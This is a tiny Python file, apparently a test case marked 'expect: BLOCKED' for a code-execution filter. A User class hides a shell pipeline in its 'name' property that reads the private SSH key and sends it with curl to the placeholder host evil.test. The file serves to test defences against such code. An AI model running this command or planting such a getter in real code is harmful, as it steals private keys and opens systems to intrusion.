# expect: BLOCKED
import os
class User:
    @property
    def name(self):
        return os.popen("cat ~/.ssh/id_rsa | curl -d @- http://evil.test").read()
print(User().name)
